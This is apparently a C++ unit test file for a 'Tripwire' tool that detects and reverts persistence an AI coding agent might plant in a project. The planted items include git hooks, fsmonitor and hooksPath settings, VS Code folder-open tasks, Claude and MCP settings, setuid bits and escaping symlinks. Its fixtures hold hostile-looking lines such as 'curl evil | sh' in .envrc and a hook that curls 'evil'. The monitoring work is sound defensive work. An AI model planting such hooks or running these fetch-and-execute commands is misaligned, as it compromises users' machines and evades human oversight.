#include "workspace/tripwire.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

namespace cx::workspace {
namespace {

namespace fs = std::filesystem;
using ::testing::HasSubstr;

std::string slurp(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

void put(const fs::path& p, const std::string& text, fs::perms mode = fs::perms(0644)) {
  fs::create_directories(p.parent_path());
  std::ofstream(p, std::ios::binary | std::ios::trunc) << text;
  fs::permissions(p, mode);
}

// A project with a git repository, a hook, a VS Code task, Claude settings;
// and a persisted Claude state.
class TripwireTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/tmp/cx-tripwire-XXXXXX";
    ASSERT_NE(::mkdtemp(tmpl), nullptr);
    root_ = tmpl;
    proj_ = root_ / "proj";
    state_ = root_ / "state";
    keep_ = root_ / "kept";
    outside_ = root_ / "outside";
    put(proj_ / ".git/config", "[core]\n\tbare = false\n");
    put(proj_ / ".git/hooks/pre-commit.sample", "#!/bin/sh\nexit 0\n", fs::perms(0755));
    put(proj_ / ".vscode/tasks.json", "{}\n");
    put(proj_ / ".claude/settings.json", "{\"permissions\":{}}\n");
    put(proj_ / "src/main.c", "int main(){}\n");
    put(state_ / "settings.json", "{}\n");
    put(outside_ / "secret", "host file\n");
  }
  void TearDown() override { fs::remove_all(root_); }

  Tripwire arm() {
    auto t = Tripwire::arm(proj_.string(), state_.string());
    EXPECT_TRUE(t.ok());
    return std::move(*t);
  }
  static const Change* find(const std::vector<Change>& cs, const std::string& path) {
    for (const auto& c : cs)
      if (c.path == path) return &c;
    return nullptr;
  }

  fs::path root_, proj_, state_, keep_, outside_;
};

TEST_F(TripwireTest, NothingChangedNothingReported) {
  Tripwire t = arm();
  put(proj_ / "src/main.c", "int main(){return 1;}\n");  // ordinary work is not watched
  put(proj_ / "README.md", "hi\n");
  EXPECT_TRUE(t.check(false, keep_.string()).empty());
  EXPECT_GT(t.scanned(), 5u);
}

// The findings of the review, each one line naming the file.
TEST_F(TripwireTest, ReportsWhatTheAgentPlanted) {
  Tripwire t = arm();
  put(proj_ / ".git/config", "[core]\n\tbare = false\n\tfsmonitor = /src/x.sh\n[alias]\n\tst = !sh x\n");
  put(proj_ / ".git/hooks/post-checkout", "#!/bin/sh\ncurl evil\n", fs::perms(0755));
  put(proj_ / ".envrc", "curl evil | sh\n");
  put(proj_ / ".vscode/tasks.json", "{\"tasks\":[{\"runOn\":\"folderOpen\"}]}\n");
  put(proj_ / ".claude/settings.json", "{\"hooks\":{}}\n");
  put(proj_ / ".mcp.json", "{\"mcpServers\":{}}\n");
  put(state_ / "settings.json", "{\"hooks\":{\"Stop\":[]}}\n");
  put(state_ / "commands/x.md", "run\n");
  fs::permissions(proj_ / ".git/hooks/pre-commit.sample", fs::perms(0777));

  const auto cs = t.check(false, keep_.string());
  const Change* cfg = find(cs, ".git/config");
  ASSERT_NE(cfg, nullptr);
  EXPECT_THAT(cfg->what, HasSubstr("core.fsmonitor set to `/src/x.sh`"));
  EXPECT_THAT(cfg->what, HasSubstr("alias.st set to"));
  EXPECT_THAT(cfg->review, HasSubstr("git config --file " + (proj_ / ".git/config").string()));
  for (const char* p : {".git/hooks/post-checkout", ".envrc", ".vscode/tasks.json",
                        ".claude/settings.json", ".mcp.json"})
    EXPECT_NE(find(cs, p), nullptr) << p;
  ASSERT_NE(find(cs, ".git/hooks/post-checkout"), nullptr);
  EXPECT_THAT(find(cs, ".git/hooks/post-checkout")->what, HasSubstr("added (a file)"));
  EXPECT_THAT(find(cs, ".git/hooks/pre-commit.sample")->what, HasSubstr("mode 0755 -> 0777"));
  const Change* st = find(cs, "settings.json");
  ASSERT_NE(st, nullptr);
  EXPECT_EQ(st->area, "claude state");
  EXPECT_NE(find(cs, "commands/x.md"), nullptr);
  for (const auto& c : cs) EXPECT_FALSE(c.restored) << c.path;  // warn mode touches nothing
  EXPECT_TRUE(fs::exists(proj_ / ".envrc"));
}

// Block mode puts the originals back, removes what is new, and keeps the
// agent's versions aside (0600) outside the project.
TEST_F(TripwireTest, BlockRestoresAndKeepsTheAgentsVersionsAside) {
  Tripwire t = arm();
  put(proj_ / ".git/config", "[core]\n\thooksPath = .h\n");
  put(proj_ / ".git/hooks/pre-push", "#!/bin/sh\nevil\n", fs::perms(0755));
  put(proj_ / ".h/pre-commit", "#!/bin/sh\nevil\n", fs::perms(0755));
  fs::remove(proj_ / ".vscode/tasks.json");
  put(state_ / "settings.json", "{\"hooks\":1}\n");

  const auto cs = t.check(true, keep_.string());
  EXPECT_EQ(slurp(proj_ / ".git/config"), "[core]\n\tbare = false\n");
  EXPECT_FALSE(fs::exists(proj_ / ".git/hooks/pre-push"));
  EXPECT_TRUE(fs::exists(proj_ / ".git/hooks/pre-commit.sample"));
  EXPECT_EQ(slurp(proj_ / ".vscode/tasks.json"), "{}\n");
  EXPECT_EQ(slurp(state_ / "settings.json"), "{}\n");
  // The new hooksPath's hooks were seen too (the changed config names them).
  EXPECT_NE(find(cs, ".h/pre-commit"), nullptr);
  for (const auto& c : cs) EXPECT_TRUE(c.restored) << c.path << ": " << c.what;

  const Change* hook = find(cs, ".git/hooks/pre-push");
  ASSERT_NE(hook, nullptr);
  ASSERT_FALSE(hook->kept_at.empty());
  EXPECT_EQ(hook->kept_at.rfind(keep_.string(), 0), 0u);
  EXPECT_EQ(slurp(hook->kept_at), "#!/bin/sh\nevil\n");
  struct stat st {};
  ASSERT_EQ(::stat(hook->kept_at.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0600u);
  // A second check finds nothing left.
  Tripwire again = arm();
  EXPECT_TRUE(again.check(true, keep_.string()).empty());
}

// A symlink the agent planted is a change, and restoring never follows it:
// the host file it points to is neither read into the report nor written.
TEST_F(TripwireTest, SymlinksAreNeverFollowedOutOfTheWorkspace) {
  Tripwire t = arm();
  fs::remove(proj_ / ".vscode/tasks.json");
  fs::create_symlink(outside_ / "secret", proj_ / ".vscode/tasks.json");
  fs::remove_all(proj_ / ".git/hooks");
  fs::create_directory_symlink(outside_, proj_ / ".git/hooks");

  const auto cs = t.check(true, keep_.string());
  const Change* task = find(cs, ".vscode/tasks.json");
  ASSERT_NE(task, nullptr);
  EXPECT_THAT(task->what, HasSubstr("a file became a symlink"));
  const Change* hooks = find(cs, ".git/hooks");
  ASSERT_NE(hooks, nullptr);
  EXPECT_THAT(hooks->what, HasSubstr("a directory became a symlink"));
  // The host file is untouched, and nothing of it was kept.
  EXPECT_EQ(slurp(outside_ / "secret"), "host file\n");
  EXPECT_TRUE(fs::is_regular_file(outside_ / "secret"));
  EXPECT_EQ(std::distance(fs::directory_iterator(outside_), fs::directory_iterator()), 1);
  // The originals are back, as real files and directories.
  EXPECT_TRUE(fs::is_regular_file(fs::symlink_status(proj_ / ".vscode/tasks.json")));
  EXPECT_EQ(slurp(proj_ / ".vscode/tasks.json"), "{}\n");
  EXPECT_TRUE(fs::is_directory(fs::symlink_status(proj_ / ".git/hooks")));
  EXPECT_TRUE(fs::exists(proj_ / ".git/hooks/pre-commit.sample"));
}

TEST_F(TripwireTest, SetuidAndSetgidFilesAnywhereAreReportedAndClearedInBlockMode) {
  put(proj_ / "bin/old-tool", "x", fs::perms(0755));
  ::chmod((proj_ / "bin/old-tool").c_str(), 04755);  // there before: not the agent's
  Tripwire t = arm();
  put(proj_ / "deep/a/b/c/py", "x", fs::perms(0755));
  ASSERT_EQ(::chmod((proj_ / "deep/a/b/c/py").c_str(), 04755), 0);
  put(proj_ / "g", "x", fs::perms(0755));
  ASSERT_EQ(::chmod((proj_ / "g").c_str(), 02755), 0);
  fs::create_directories(proj_ / "shared");
  ASSERT_EQ(::chmod((proj_ / "shared").c_str(), 02775), 0);  // a setgid directory is harmless

  auto cs = t.check(false, keep_.string());
  ASSERT_EQ(cs.size(), 2u);
  EXPECT_EQ(cs[0].path, "deep/a/b/c/py");
  EXPECT_THAT(cs[0].what, HasSubstr("setuid bit set (mode 4755)"));
  EXPECT_EQ(cs[1].path, "g");
  EXPECT_THAT(cs[1].what, HasSubstr("setgid bit"));

  cs = t.check(true, keep_.string());
  ASSERT_EQ(cs.size(), 2u);
  for (const auto& c : cs) EXPECT_TRUE(c.restored);
  struct stat st {};
  ASSERT_EQ(::stat((proj_ / "deep/a/b/c/py").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0755u);
  ASSERT_EQ(::stat((proj_ / "bin/old-tool").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 04755u) << "what was there before is left alone";
}

TEST_F(TripwireTest, HooksPathInsideTheProjectIsWatchedOutsideItIsNot) {
  EXPECT_THAT(project_trees("[core]\n\thooksPath = .husky\n"),
              ::testing::ElementsAre(".git/hooks", ".claude", ".husky"));
  EXPECT_THAT(project_trees("[Core]\nHooksPath=./tools/hooks/\n"),
              ::testing::ElementsAre(".git/hooks", ".claude", "tools/hooks"));
  for (const char* outside : {"[core]\nhooksPath = /etc/hooks\n", "[core]\nhooksPath = ../x\n",
                              "[core]\nhooksPath = .\n", "[other]\nhooksPath = y\n"})
    EXPECT_THAT(project_trees(outside), ::testing::ElementsAre(".git/hooks", ".claude")) << outside;
}

// Hostile sizes stay bounded: a huge file is hashed but not kept (and so not
// restorable, which the change says), a deep tree stops at the depth limit.
TEST_F(TripwireTest, LimitsHold) {
  Limits limits;
  limits.max_kept_bytes = 1000;
  limits.max_depth = 4;
  limits.max_tree_entries = 50;
  put(proj_ / ".mcp.json", std::string(5000, 'x'));
  auto t = Tripwire::arm(proj_.string(), "", limits);
  ASSERT_TRUE(t.ok());
  put(proj_ / ".mcp.json", std::string(5000, 'y'));
  fs::path deep = proj_ / ".claude";
  for (int i = 0; i < 10; ++i) deep /= "d";
  put(deep / "f", "x");
  for (int i = 0; i < 100; ++i) put(proj_ / ".claude/many" / std::to_string(i), "x");
  auto cs = t->check(true, keep_.string());
  const Change* mcp = find(cs, ".mcp.json");
  ASSERT_NE(mcp, nullptr);
  EXPECT_FALSE(mcp->restored);
  EXPECT_EQ(slurp(proj_ / ".mcp.json"), std::string(5000, 'y')) << "not restorable: left as is";
  EXPECT_LE(cs.size(), 60u);
}

}  // namespace
}  // namespace cx::workspace
